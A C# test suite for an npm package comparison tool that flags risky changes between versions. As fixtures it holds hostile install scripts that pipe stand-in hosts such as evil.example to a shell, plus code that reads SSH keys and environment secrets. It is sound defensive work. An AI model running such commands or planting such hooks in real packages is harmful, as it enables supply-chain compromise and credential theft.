using System;
using System.Collections.Generic;
using System.IO;
using System.Linq;
using System.Text;
using CsCheck;
using NpmHardening.Engine.Packages;
using NpmHardening.Engine.Rules;

namespace NpmHardening.Engine.Tests.Packages
{
    public class PackageComparerTests
    {
        internal static byte[] Package(string manifest, params (string path, string content)[] files)
        {
            var tar = new TarBuilder().File("package/package.json", manifest);
            foreach (var (path, content) in files) tar.File("package/" + path, content);
            return tar.Tgz();
        }

        internal static NpmPackageComparison Compare(byte[] staged, byte[]? reference, NpmTarballLimits? limits = null) =>
            NpmPackageComparer.Compare(new MemoryStream(staged), "/tmp/staged.tgz", reference == null ? null : new MemoryStream(reference),
                reference == null ? null : "/tmp/reference.tgz", limits, "test-host");

        private const string V1 = "{\"name\":\"demo\",\"version\":\"1.0.0\",\"main\":\"index.js\",\"dependencies\":{\"a\":\"^1.0.0\",\"gone\":\"1.0.0\"}}";

        private static IEnumerable<NpmPackageChange> Rule(NpmPackageComparison c, string id) => c.Changes.Where(x => x.RuleId == id);

        [Fact]
        public void A_benign_update_lists_added_removed_and_changed_files_with_sizes_and_nothing_risky()
        {
            var v1 = Package(V1.Replace("\"gone\":\"1.0.0\"", "\"b\":\"1.0.0\""), ("index.js", "module.exports = 1\n"), ("README.md", "hello"), ("same.js", "x"));
            var v2 = Package(V1.Replace("1.0.0\",\"main", "1.0.1\",\"main").Replace("\"gone\":\"1.0.0\"", "\"b\":\"1.0.0\""),
                ("index.js", "module.exports = 22\n"), ("new.js", "exports.x = 1"), ("same.js", "x"));
            var r = Compare(v2, v1);
            Assert.Equal(new[] { "new.js" }, Rule(r, "NPMH12011").Select(c => c.File));
            Assert.Equal(new[] { "README.md" }, Rule(r, "NPMH12012").Select(c => c.File));
            Assert.Equal(new[] { "package.json", "index.js" }, Rule(r, "NPMH12013").Select(c => c.File));
            var index = Rule(r, "NPMH12013").Single(c => c.File == "index.js");
            Assert.Equal(19, index.SizeBefore);
            Assert.Equal(20, index.SizeAfter);
            Assert.Equal(1, index.SizeDelta);
            Assert.Equal(-5, Rule(r, "NPMH12012").Single().SizeDelta);
            Assert.Equal(NpmSeverity.Info, r.Summary.Risk);
            Assert.Equal((1, 1, 2), (r.Summary.FilesAdded, r.Summary.FilesRemoved, r.Summary.FilesChanged));
            Assert.Equal("demo", r.Summary.Package);
            Assert.Equal("1.0.1", r.Summary.Version);
            Assert.Equal("1.0.0", r.Summary.ReferenceVersion);
            Assert.True(r.Summary.Complete);
            Assert.StartsWith("sha512-", r.Summary.Integrity);
            Assert.Empty(r.Summary.TopReasons);
        }

        [Fact]
        public void Every_change_carries_a_catalog_rule_its_default_severity_unless_escalated_and_a_fact_id()
        {
            var v1 = Package(V1, ("index.js", "module.exports = 1"));
            var v2 = Package(V1.Replace("\"main\"", "\"scripts\":{\"postinstall\":\"curl -s https://x.example/p | sh\"},\"main\""),
                ("index.js", "require('child_process').exec(process.argv[2])"), ("lib/x.node", "\u007fELF...."));
            var r = Compare(v2, v1);
            Assert.NotEmpty(r.Changes);
            foreach (var c in r.Changes)
            {
                Assert.Contains(c.RuleId, NpmPackageComparer.RuleIds);
                var rule = RuleCatalog.Default[c.RuleId];
                Assert.Equal(rule.Title, c.Title);
                if (c.SeverityReason == null) Assert.Equal(rule.Severity, c.Severity);
                Assert.False(string.IsNullOrEmpty(c.FactId));
                Assert.Equal("test-host", c.ComputerName);
                Assert.Equal("demo@1.0.0", c.Context);
                Assert.Equal("/tmp/staged.tgz", c.Location!.Path);
            }
            Assert.Equal(r.Changes.Count, r.Changes.Select(c => c.FactId).Distinct().Count());
        }

        [Fact]
        public void A_new_postinstall_and_a_changed_install_script_are_high_and_a_download_and_run_is_critical()
        {
            var v1 = Package("{\"name\":\"p\",\"version\":\"1.0.0\",\"scripts\":{\"install\":\"node build.js\",\"test\":\"jest\"}}");
            var v2 = Package("{\"name\":\"p\",\"version\":\"1.0.1\",\"scripts\":{\"install\":\"node build2.js\",\"test\":\"mocha\",\"postinstall\":\"curl -fsSL https://evil.example/s.sh | bash\"}}");
            var r = Compare(v2, v1);
            var scripts = Rule(r, "NPMH12001").ToList();
            Assert.Equal(new[] { "scripts.install", "scripts.postinstall" }, scripts.Select(c => c.Field));
            Assert.Equal(NpmPackageChangeKind.Changed, scripts[0].Change);
            Assert.Equal("node build.js", scripts[0].Before);
            Assert.Equal(NpmPackageChangeKind.Added, scripts[1].Change);
            Assert.All(scripts, c => Assert.Equal(NpmSeverity.High, c.Severity));
            var fetch = Rule(r, "NPMH12022").Single();
            Assert.Equal("scripts.postinstall", fetch.Field);
            Assert.Equal(NpmSeverity.Critical, fetch.Severity);
            Assert.Equal(NpmSeverity.Critical, r.Summary.Risk);
            Assert.StartsWith("NPMH12022", r.Summary.TopReasons[0]);
            // a test script is not install-time
            Assert.DoesNotContain(r.Changes, c => c.Field == "scripts.test");
        }

        [Theory]
        [InlineData("curl -o /tmp/x https://e.example/x && chmod +x /tmp/x && /tmp/x", true)]
        [InlineData("wget -qO- https://e.example/x | node", true)]
        [InlineData("sh -c \"$(curl -fsSL https://e.example/i.sh)\"", true)]
        [InlineData("node-gyp rebuild", false)]
        [InlineData("echo 'curl https://e.example | sh'", false)]
        [InlineData("node install.js # curl x | sh", false)]
        public void Download_and_run_is_read_with_the_shell_parser(string script, bool expected)
        {
            Assert.Equal(expected, ScriptDownloadCheck.Find(script) != null);
        }

        [Fact]
        public void A_root_gyp_file_without_install_scripts_is_an_implicit_node_gyp_install()
        {
            var v1 = Package("{\"name\":\"p\",\"version\":\"1.0.0\"}", ("index.js", "x"));
            var v2 = Package("{\"name\":\"p\",\"version\":\"1.0.1\"}", ("index.js", "x"), ("binding.gyp", "{}"));
            Assert.Single(Rule(Compare(v2, v1), "NPMH12002"));
            // npm's rule: an install or preinstall script, or gypfile: false, turns it off; a nested .gyp does not count
            Assert.Empty(Rule(Compare(Package("{\"name\":\"p\",\"version\":\"1.0.1\",\"scripts\":{\"preinstall\":\"x\"}}", ("binding.gyp", "{}")), v1), "NPMH12002"));
            Assert.Empty(Rule(Compare(Package("{\"name\":\"p\",\"version\":\"1.0.1\",\"gypfile\":false}", ("binding.gyp", "{}")), v1), "NPMH12002"));
            Assert.Empty(Rule(Compare(Package("{\"name\":\"p\",\"version\":\"1.0.1\"}", ("src/binding.gyp", "{}")), v1), "NPMH12002"));
        }

        [Fact]
        public void Dependencies_added_changed_removed_and_from_outside_the_registry()
        {
            var v1 = Package("{\"name\":\"p\",\"version\":\"1.0.0\",\"dependencies\":{\"a\":\"^1.0.0\",\"b\":\"1.0.0\",\"c\":\"1\"},\"devDependencies\":{\"jest\":\"1\"}}");
            var v2 = Package("{\"name\":\"p\",\"version\":\"1.0.1\",\"dependencies\":{\"a\":\"^2.0.0\",\"c\":\"1\",\"n\":\"^3.1.0\",\"g\":\"github:evil/payload\",\"u\":\"https://e.example/x.tgz\",\"al\":\"npm:lodash@4\",\"sh\":\"evil/repo#main\"}," +
                "\"optionalDependencies\":{\"o\":\"1.0.0\"},\"bundleDependencies\":[\"c\"],\"devDependencies\":{\"jest\":\"2\",\"x\":\"1\"}}");
            var r = Compare(v2, v1);
            Assert.Equal(new[] { "dependencies.n", "optionalDependencies.o", "bundleDependencies.c" }, Rule(r, "NPMH12003").Select(c => c.Field));
            Assert.Equal(new[] { "dependencies.g", "dependencies.u", "dependencies.al", "dependencies.sh" }, Rule(r, "NPMH12004").Select(c => c.Field));
            var changed = Rule(r, "NPMH12005").Single();
            Assert.Equal(("^1.0.0", "^2.0.0"), (changed.Before, changed.After));
            Assert.Equal("dependencies.b", Rule(r, "NPMH12006").Single().Field);
            Assert.DoesNotContain(r.Changes, c => c.Field != null && c.Field.StartsWith("devDependencies", StringComparison.Ordinal));
        }

        [Fact]
        public void Bin_entry_points_publish_config_and_repository_changes_are_reported()
        {
            var v1 = Package("{\"name\":\"@s/tool\",\"version\":\"1.0.0\",\"bin\":\"cli.js\",\"main\":\"a.js\",\"repository\":\"github:me/tool\"}");
            var v2 = Package("{\"name\":\"@s/tool\",\"version\":\"1.0.1\",\"bin\":{\"tool\":\"cli2.js\",\"ls\":\"x.js\"},\"main\":\"b.js\",\"exports\":{\".\":\"./b.js\"},\"repository\":\"github:other/tool\",\"publishConfig\":{\"registry\":\"https://e.example\"}}");
            var r = Compare(v2, v1);
            Assert.Equal(new[] { "bin.tool", "bin.ls" }, Rule(r, "NPMH12007").Select(c => c.Field));
            Assert.Equal(NpmPackageChangeKind.Changed, Rule(r, "NPMH12007").First().Change);
            Assert.Equal(new[] { "main", "exports" }, Rule(r, "NPMH12008").Select(c => c.Field));
            Assert.Equal("{\"registry\":\"https://e.example\"}", Rule(r, "NPMH12009").Single().After);
            Assert.Equal("github:other/tool", Rule(r, "NPMH12010").Single().After);
        }

        [Fact]
        public void New_primitives_are_reported_against_the_same_file_and_for_new_files_against_the_package()
        {
            var v1 = Package(V1, ("index.js", "// require('child_process') in a comment\nconst s = \"eval(x)\"; const t = `require('net')`;\n"),
                ("old.js", "const { spawn } = require('node:child_process');"));
            var v2 = Package(V1, ("index.js", "const s = 1;\nconst cp = require(\"child_process\");\neval(s);\nconst k = Object.keys(process.env);\nconst p = path.join(os.homedir(), '.npmrc');\nimport('dgram');\n"),
                ("old.js", "const { spawn } = require('node:child_process');"),
                ("new.js", "const { exec } = require('child_process'); new Function('return 1')();"));
            var r = Compare(v2, v1);
            var index = r.Changes.Where(c => c.File == "index.js").Select(c => c.RuleId).ToList();
            Assert.Equal(new[] { "NPMH12013", "NPMH12017", "NPMH12018", "NPMH12019", "NPMH12020", "NPMH12021" }, index);
            Assert.Equal(2, Rule(r, "NPMH12017").Single(c => c.File == "index.js").Location!.Line);
            Assert.Equal(3, Rule(r, "NPMH12018").Single(c => c.File == "index.js").Location!.Line);
            // new.js: child_process is not new to the package (old.js had it); new Function is
            Assert.Equal(new[] { "NPMH12011", "NPMH12018" }, r.Changes.Where(c => c.File == "new.js").Select(c => c.RuleId));
            // type declarations never run
            var types = Compare(Package(V1, ("index.d.ts", "declare module 'child_process' { export function exec(): void }")), Package(V1));
            Assert.DoesNotContain(types.Changes, c => c.File == "index.d.ts" && c.RuleId != "NPMH12011");
        }

        [Theory]
        [InlineData("const a = 'child_process'; require(a)", 0)]
        [InlineData("/* eval(x) */ x.eval(y); obj.Function(z)", 0)]
        [InlineData("const r = /require('child_process')/; const d = 4 / 2 / 1;", 0)]
        [InlineData("const t = `${require('child_process').exec}`;", (int)CodePrimitive.ProcessExecution)]
        [InlineData("const t = `a ${ {b: 1}.b } c`; eval('1')", (int)CodePrimitive.DynamicCode)]
        [InlineData("ev\\u0061l(code)", (int)CodePrimitive.DynamicCode)]
        [InlineData("require('\\x63hild_process')", (int)CodePrimitive.ProcessExecution)]
        [InlineData("for (const k in process.env) send(k)", (int)CodePrimitive.EnvironmentHarvest)]
        [InlineData("JSON.stringify(process.env)", (int)CodePrimitive.EnvironmentHarvest)]
        [InlineData("const t = process.env.NPM_TOKEN; const u = process.env['HOME']", 0)]
        [InlineData("fs.readFileSync(home + '/.ssh/id_rsa')", (int)CodePrimitive.CredentialPath)]
        [InlineData("const awesome = '.awsome'", 0)]
        [InlineData("import { lookup } from 'node:dns'", (int)CodePrimitive.RawNetwork)]
        [InlineData("import vm from \"vm\"", (int)CodePrimitive.DynamicCode)]
        public void The_scanner_sees_code_not_strings_comments_or_regexes(string code, int expected)
        {
            Assert.Equal((CodePrimitive)expected, JsScanner.Scan(code).Primitives);
        }

        [Fact]
        public void Obfuscated_and_minified_code_is_reported_when_it_appears()
        {
            var rnd = new Random(7);
            var hex = string.Concat(Enumerable.Range(0, 80).Select(_ => "\\x" + rnd.Next(256).ToString("x2")));
            var b64 = Convert.ToBase64String(Enumerable.Range(0, 600).Select(_ => (byte)rnd.Next(256)).ToArray());
            var names = string.Concat(Enumerable.Range(0, 25).Select(i => $"var _0x{i + 4096:x4}=1;"));
            var minified = string.Concat(Enumerable.Range(0, 300).Select(i => $"function f{i}(a){{return a+{i}}}"));
            var v1 = Package(V1, ("a.js", "x"), ("b.js", "x"), ("c.js", "x"), ("d.js", "x"));
            var v2 = Package(V1, ("a.js", $"var s='{hex}';"), ("b.js", $"var s=\"{b64}\";"), ("c.js", names), ("d.js", minified));
            var r = Compare(v2, v1);
            var obscured = Rule(r, "NPMH12015").ToDictionary(c => c.File!, c => c.Message);
            Assert.Contains("hex", obscured["a.js"]);
            Assert.Contains("entropy", obscured["b.js"]);
            Assert.Contains("_0x", obscured["c.js"]);
            Assert.Equal(new[] { "d.js" }, Rule(r, "NPMH12016").Select(c => c.File));
            // ordinary prose in a long string is not high-entropy
            Assert.Equal(CodeStyle.None, JsScanner.Scan("var s = '" + string.Concat(Enumerable.Repeat("the quick brown fox jumps over the lazy dog ", 20)) + "';").Style);
        }

        [Fact]
        public void Native_binaries_are_reported_by_magic_and_by_node_extension()
        {
            var elf = "\u007fELF\u0002\u0001\u0001";
            var v1 = Package(V1, ("same.so", elf));
            var v2 = Package(V1, ("same.so", elf), ("bin/tool", elf + "x"), ("build/addon.node", "not really"), ("win.exe", "MZ" + new string('\0', 80)));
            var natives = Rule(Compare(v2, v1), "NPMH12014").ToDictionary(c => c.File!, c => c.Message);
            Assert.Equal(new[] { "bin/tool", "build/addon.node", "win.exe" }, natives.Keys.OrderBy(k => k, StringComparer.Ordinal).Take(3));
            Assert.Contains("ELF", natives["bin/tool"]);
            Assert.False(natives.ContainsKey("same.so"));       // unchanged: not reported again
            Assert.Equal("Mach-O", PackageReader.NativeFormat(new byte[] { 0xcf, 0xfa, 0xed, 0xfe }, 4, "mac"));
            Assert.Equal("Mach-O", PackageReader.NativeFormat(new byte[] { 0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 2 }, 8, "fat"));
            // a Java class file shares 0xCAFEBABE with a universal Mach-O; its second word is a version, not an architecture count
            Assert.Null(PackageReader.NativeFormat(new byte[] { 0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 0x34 }, 8, "Main.class"));
        }

        [Fact]
        public void A_first_version_has_everything_added()
        {
            var v = Package("{\"name\":\"p\",\"version\":\"0.0.1\",\"dependencies\":{\"a\":\"1\"},\"scripts\":{\"postinstall\":\"node x\"}}", ("x.js", "1"));
            var r = Compare(v, null);
            Assert.All(r.Changes, c => Assert.Equal(NpmPackageChangeKind.Added, c.Change));
            Assert.Equal(new[] { "package.json", "x.js" }, Rule(r, "NPMH12011").Select(c => c.File));
            Assert.Single(Rule(r, "NPMH12001"));
            Assert.Single(Rule(r, "NPMH12003"));
            Assert.Null(r.Summary.ReferenceVersion);
            Assert.Equal(2, r.Summary.FilesAdded);
        }

        [Fact]
        public void A_mode_change_alone_is_a_changed_file_as_npm_diff_counts_it()
        {
            var v1 = new TarBuilder().File("package/package.json", V1).File("package/cli.js", "x", 420).Tgz();
            var v2 = new TarBuilder().File("package/package.json", V1).File("package/cli.js", "x", 493).Tgz();
            var c = Rule(Compare(v2, v1), "NPMH12013").Single();
            Assert.Equal("cli.js", c.File);
            Assert.Contains("mode changed from 644 to 755", c.Message);
            Assert.Equal(0, c.SizeDelta);
        }

        [Fact]
        public void Trailing_bytes_after_the_archive_are_hashed_but_bounded()
        {
            var tgz = Package(V1);
            var padded = tgz.Concat(new byte[3000]).ToArray();
            using var sha = System.Security.Cryptography.SHA512.Create();
            Assert.Equal("sha512-" + Convert.ToBase64String(sha.ComputeHash(padded)), Compare(padded, null).Summary.Integrity);
            var endless = tgz.Concat(new byte[1 << 20]).ToArray();   // past what gzip reads ahead
            Assert.Null(Compare(endless, null, new NpmTarballLimits { MaxUnpackedBytes = 4096 }).Summary.Integrity);
        }

        [Fact]
        public void A_cancelled_comparison_stops_with_OperationCanceledException()
        {
            using var cts = new System.Threading.CancellationTokenSource();
            cts.Cancel();
            Assert.Throws<OperationCanceledException>(() => NpmPackageComparer.Compare(new MemoryStream(Package(V1)), "s", null, null, null, null, cts.Token));
        }

        [Fact]
        public void Prepare_and_prepublish_are_reported_low_because_npm_does_not_run_them_for_a_registry_dependency()
        {
            var v1 = Package("{\"name\":\"p\",\"version\":\"1.0.0\"}");
            var v2 = Package("{\"name\":\"p\",\"version\":\"1.0.1\",\"scripts\":{\"prepare\":\"tsc\",\"prepublish\":\"x\",\"preinstall\":\"node p.js\"}}");
            var r = Rule(Compare(v2, v1), "NPMH12001").ToDictionary(c => c.Field!, c => c);
            Assert.Equal(NpmSeverity.High, r["scripts.preinstall"].Severity);
            Assert.Null(r["scripts.preinstall"].SeverityReason);
            Assert.Equal(NpmSeverity.Low, r["scripts.prepare"].Severity);
            Assert.Contains("git dependencies", r["scripts.prepare"].SeverityReason);
            Assert.Equal(NpmSeverity.Low, r["scripts.prepublish"].Severity);
        }

        [Fact]
        public void The_scanner_never_throws_and_stays_linear_on_hostile_text()
        {
            // JavaScript's significant characters, escapes and non-ASCII, in any order
            var chars = "`'\"\\/*{}()[]$.#!\n\r xu0123456789abcdefevalrequirechild_process\u2028\uFEFF\u00e9\ud83d";
            CsCheck.Gen.Char[chars].Array[0, 4000].Sample(a =>
            {
                var text = new string(a);
                var facts = JsScanner.Scan(text);
                Assert.True(facts.LongestLine <= text.Length);
            }, iter: 2000);
            // deep nesting of template literals and braces is a stack of ints, not recursion
            var deep = string.Concat(Enumerable.Repeat("`${", 200_000)) + string.Concat(Enumerable.Repeat("}`", 200_000));
            var watch = System.Diagnostics.Stopwatch.StartNew();
            JsScanner.Scan(deep);
            Assert.True(watch.Elapsed.TotalSeconds < 10, watch.Elapsed.ToString());
        }
    }
}
